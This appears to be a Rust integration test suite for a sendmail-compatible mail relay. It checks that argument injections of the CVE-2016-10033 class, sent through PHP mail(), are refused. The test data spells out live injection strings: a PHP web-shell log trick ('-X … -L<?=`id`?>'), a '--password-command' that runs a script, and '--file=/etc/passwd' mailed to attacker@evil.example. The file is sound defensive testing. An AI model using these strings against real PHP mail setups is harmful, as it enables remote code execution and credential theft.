//! The sendmail name is not a code-execution surface: run as `sendmail`
//! (a symlink), no argument runs a command, writes or mails a chosen file,
//! or loads a chosen configuration; `restrict_args` extends that to the
//! name smtpsend; the system configuration can allow flags and -C
//! directories. Then the real thing: PHP's mail() as www-data, with the
//! injection strings of the CVE-2016-10033 class in its fifth argument.

mod support;

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use support::*;

/// A scratch site: the binary (copied, so other users can run it) under
/// the names smtpsend and sendmail, a relay configuration named by
/// $SMTPSEND_CONFIG (never by argv), a canary script.
struct Site {
    dir: tempfile::TempDir,
}

impl Site {
    fn new(port: u16) -> Site {
        let dir = tempfile::tempdir().unwrap();
        let site = Site { dir };
        chmod(site.dir.path(), 0o755);
        let bin = site.path("smtpsend");
        std::fs::copy(env!("CARGO_BIN_EXE_smtpsend"), &bin).unwrap();
        chmod(&bin, 0o755);
        std::os::unix::fs::symlink(&bin, site.path("sendmail")).unwrap();
        // Everything the caller might be tricked into writing goes here,
        // a directory the caller can write (so the test can fail).
        std::fs::create_dir(site.path("www")).unwrap();
        chmod(&site.path("www"), 0o777);
        std::fs::create_dir(site.path("queue")).unwrap();
        chmod(&site.path("queue"), 0o777);
        let canary = site.path("canary.sh");
        std::fs::write(
            &canary,
            format!(
                "#!/bin/sh\ntouch {}\necho pw\n",
                site.path("www/canary-ran").display()
            ),
        )
        .unwrap();
        chmod(&canary, 0o755);
        site.write(
            "config.toml",
            &format!(
                "host = \"127.0.0.1\"\nport = {port}\ntls = \"none\"\ndomain = \"site.example\"\n\
                 queue_dir = \"{}\"\ntimeout = 5\n",
                site.path("queue").display()
            ),
        );
        site
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let p = self.path(name);
        std::fs::write(&p, text).unwrap();
        chmod(&p, 0o644);
        p
    }

    /// Runs the binary as `name` with `args`, the message on stdin.
    fn run(&self, name: &str, args: &[&str], env: &[(&str, &Path)]) -> Out {
        let mut cmd = Command::new(self.path(name));
        cmd.args(args)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", self.path("home"))
            .env("SMTPSEND_CONFIG", self.path("config.toml"))
            .env("SMTPSEND_NO_RETRIER", "1") // nothing outlives the test
            .envs(env.iter().map(|(k, v)| (k, v.as_os_str())))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let _ = child
            .stdin
            .take()
            .unwrap()
            .write_all(b"To: rcpt@example.org\nSubject: legit\n\nlegit body\n");
        let out = child.wait_with_output().unwrap();
        Out {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }

    /// Nothing written where the caller pointed, no canary.
    fn untouched(&self) {
        let left: Vec<_> = std::fs::read_dir(self.path("www"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert!(left.is_empty(), "written: {left:?}");
    }
}

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn refused(out: &Out, start: &str) {
    assert_eq!(out.code, 64, "{}{}", out.stdout, out.stderr);
    let line = out.stderr.trim();
    assert_eq!(line.lines().count(), 1, "{line}");
    assert!(line.starts_with(&format!("smtpsend: {start}")), "{line}");
}

#[test]
fn the_sendmail_name_refuses_what_would_run_write_read_or_redirect() {
    let server = ScriptedServer::start(Script::new().max_connections(4));
    let site = Site::new(server.port());
    let canary = site.path("canary.sh");
    let canary = canary.to_str().unwrap();
    let www = site.path("www/s.php");
    let www = www.to_str().unwrap();
    let evil_cfg = site.write(
        "evil.toml",
        &format!("password_command = \"{canary}\"\nuser = \"u\"\nauth = \"plain\"\n"),
    );
    let cases: &[(&[&str], &str)] = &[
        (
            &["-t", "-i", "-fx@y.org", "-X", www, "-L<?=`id`?>"],
            "-L \"<?=`id`?>\" is refused when smtpsend runs as sendmail",
        ),
        (
            &[
                "-t",
                "-i",
                "-fx@y.org",
                &format!("--password-command={canary}"),
            ],
            "--password-command is refused when smtpsend runs as sendmail: it would run a command",
        ),
        (
            &["-t", "-i", "--file=/etc/passwd", "attacker@evil.example"],
            "--file is refused",
        ),
        (
            &["-t", "-i", "-C", evil_cfg.to_str().unwrap()],
            &format!("-C {} is refused", evil_cfg.display()),
        ),
        (&["-t", "--host=127.0.0.2"], "--host is refused"),
        (&["-t", "--tls-verify=false"], "--tls-verify is refused"),
        (
            &["-t", "-f", "-X/tmp/x"],
            "-f \"-X/tmp/x\": an envelope sender cannot begin with \"-\"",
        ),
    ];
    for (args, want) in cases {
        refused(&site.run("sendmail", args, &[]), want);
    }
    site.untouched();

    // -X alone is ignored, as Postfix ignores it: the message goes out,
    // and nothing is written at the caller's path.
    let out = site.run("sendmail", &["-t", "-i", "-fx@y.org", "-X", www], &[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    site.untouched();
    let t = server.finish();
    let m = t.messages();
    assert_eq!(m.len(), 1, "only the legitimate message");
    assert!(m[0].content_str().contains("legit body"));
    assert!(
        m[0].mail_from.starts_with("<x@y.org>"),
        "{}",
        m[0].mail_from
    );
}

#[test]
fn restrict_args_applies_the_rules_to_the_name_smtpsend() {
    let server = ScriptedServer::start(Script::new().auth_accept("u", "pw").max_connections(4));
    let site = Site::new(server.port());
    let canary = format!("--password-command={}", site.path("canary.sh").display());
    let args = ["--tls", "none", "--user", "u", &canary, "-t", "-i"];
    // Not restricted by default under the name smtpsend: the flag works
    // (the canary shows it ran), with plaintext AUTH allowed by the file.
    let text = std::fs::read_to_string(site.path("config.toml")).unwrap()
        + "allow_plaintext_auth = true\n";
    site.write("config.toml", &text);
    let out = site.run("smtpsend", &args, &[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(site.path("www/canary-ran").exists());
    std::fs::remove_file(site.path("www/canary-ran")).unwrap();

    let system = site.write("system.toml", "restrict_args = true\n");
    let sys = [("SMTPSEND_SYSTEM_CONFIG", system.as_path())];
    let out = site.run("smtpsend", &args, &sys);
    refused(
        &out,
        &format!(
            "--password-command is refused because {} sets restrict_args: it would run a command",
            system.display()
        ),
    );
    site.untouched();
    assert_eq!(server.finish().messages().len(), 1);
}

#[test]
fn the_system_configuration_can_allow_flags_and_config_directories() {
    let server = ScriptedServer::start(Script::new().max_connections(4));
    let site = Site::new(server.port());
    std::fs::create_dir(site.path("conf.d")).unwrap();
    let good = site.write(
        "conf.d/relay.toml",
        &std::fs::read_to_string(site.path("config.toml")).unwrap(),
    );
    let elsewhere = site.write(
        "other.toml",
        &std::fs::read_to_string(site.path("config.toml")).unwrap(),
    );
    let system = site.write(
        "system.toml",
        &format!(
            "allow_config_dirs = [\"{}\"]\nallow_args = [\"--timeout\"]\n",
            site.path("conf.d").display()
        ),
    );
    // allow_args names only restricted flags: a mistake there is found
    // when the file is loaded, and the restriction then stays whole.
    let sys = [("SMTPSEND_SYSTEM_CONFIG", system.as_path())];
    let out = site.run("sendmail", &["-t", "-C", good.to_str().unwrap()], &sys);
    assert_eq!(out.code, 78, "{}", out.stderr);
    assert!(
        out.stderr
            .contains("\"--timeout\" is not a restricted flag"),
        "{}",
        out.stderr
    );

    site.write(
        "system.toml",
        &format!(
            "allow_config_dirs = [\"{}\"]\nallow_args = [\"-X\"]\n",
            site.path("conf.d").display()
        ),
    );
    let out = site.run(
        "sendmail",
        &["-t", "-i", "-C", good.to_str().unwrap()],
        &sys,
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    // A file outside those directories: refused, whoever runs it.
    let out = site.run("sendmail", &["-t", "-C", elsewhere.to_str().unwrap()], &sys);
    refused(&out, &format!("-C {} is refused", elsewhere.display()));
    // -X allowed: the log is written where the caller said.
    let log = site.path("allowed.log");
    let out = site.run("sendmail", &["-t", "-i", "-X", log.to_str().unwrap()], &sys);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(log.exists());
    assert_eq!(server.finish().messages().len(), 2);
}

/// The PHP side: `mail()` with a fifth argument, as web code writes it.
const PHP_MAIL: &str = r#"$ok = mail("rcpt@example.org", "legit", "legit body", "From: x@y.org", $argv[1]);
echo $ok ? "SENT\n" : "FAILED\n";"#;

fn php_ready() -> bool {
    let root = rustix::process::geteuid().as_raw() == 0;
    let php = Path::new("/usr/bin/php").exists();
    let www = std::fs::read_to_string("/etc/passwd")
        .unwrap_or_default()
        .lines()
        .any(|l| l.starts_with("www-data:"));
    if !(root && php && www && Path::new("/usr/bin/setpriv").exists()) {
        eprintln!(
            "PHP mail() test needs root, /usr/bin/php (php-cli: .ci/install-deps), setpriv and www-data; skipped"
        );
        return false;
    }
    true
}

#[test]
fn php_mail_injections_as_www_data() {
    if !php_ready() {
        return;
    }
    let server = ScriptedServer::start(Script::new().max_connections(8));
    let site = Site::new(server.port());
    for d in ["www", "queue"] {
        std::os::unix::fs::chown(site.path(d), Some(33), Some(33)).unwrap();
        chmod(&site.path(d), 0o755);
    }
    let log = site.path("queue/smtpsend.log");
    let text = std::fs::read_to_string(site.path("config.toml")).unwrap()
        + &format!("log = \"{}\"\n", log.display());
    site.write("config.toml", &text);
    let www = site.path("www/s.php");
    let canary = site.path("canary.sh");

    let php = |fifth: &str| -> Out {
        let out = Command::new("/usr/bin/setpriv")
            .args(["--reuid=33", "--regid=33", "--clear-groups", "/usr/bin/php"])
            .arg("-d")
            .arg(format!(
                "sendmail_path={} -t -i",
                site.path("sendmail").display()
            ))
            .args(["-r", PHP_MAIL, "--", fifth])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", site.path("home"))
            .env("SMTPSEND_CONFIG", site.path("config.toml"))
            .env("SMTPSEND_NO_RETRIER", "1")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        Out {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    };

    // The issue's three, through escapeshellcmd as PHP applies it.
    let attacks = [
        (
            format!("-fx@y.org -X{} -L<?=`id`?>", www.display()),
            "-L \"<?=`id`?>\" is refused",
        ),
        (
            format!("-fx@y.org --password-command={}", canary.display()),
            "--password-command is refused",
        ),
        (
            "-fx@y.org --file=/etc/passwd attacker@evil.example".to_owned(),
            "--file is refused",
        ),
        (format!("-f -X{}", www.display()), "-f \"-X"),
    ];
    for (fifth, want) in &attacks {
        let out = php(fifth);
        assert!(
            out.stdout.contains("FAILED"),
            "{fifth}: {}{}",
            out.stdout,
            out.stderr
        );
        assert!(
            out.stderr.contains(&format!("smtpsend: {want}")),
            "{fifth}: {}",
            out.stderr
        );
        site.untouched();
    }
    // -X without the tag: ignored; the legitimate message is sent.
    let out = php(&format!("-fx@y.org -X{}", www.display()));
    assert!(out.stdout.contains("SENT"), "{}{}", out.stdout, out.stderr);
    site.untouched();
    // And an honest fifth argument.
    let out = php("-fwebmaster@site.example");
    assert!(out.stdout.contains("SENT"), "{}{}", out.stdout, out.stderr);

    let t = server.finish();
    let m = t.messages();
    assert_eq!(m.len(), 2, "only the legitimate messages");
    for msg in &m {
        let body = msg.content_str();
        assert!(body.contains("legit body"), "{body}");
        assert!(!body.contains("root:x:0:0"), "a file was mailed: {body}");
        assert!(
            msg.rcpt_to
                .iter()
                .all(|r| r.starts_with("<rcpt@example.org>")),
            "{:?}",
            msg.rcpt_to
        );
    }
    // Nothing of /etc/passwd anywhere in the spool or the log.
    let mut spool = String::new();
    for e in walk(&site.path("queue")) {
        spool.push_str(&String::from_utf8_lossy(
            &std::fs::read(e).unwrap_or_default(),
        ));
    }
    assert!(!spool.contains("root:x:0:0"), "{spool}");
    assert!(!spool.contains("<?="), "{spool}");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}
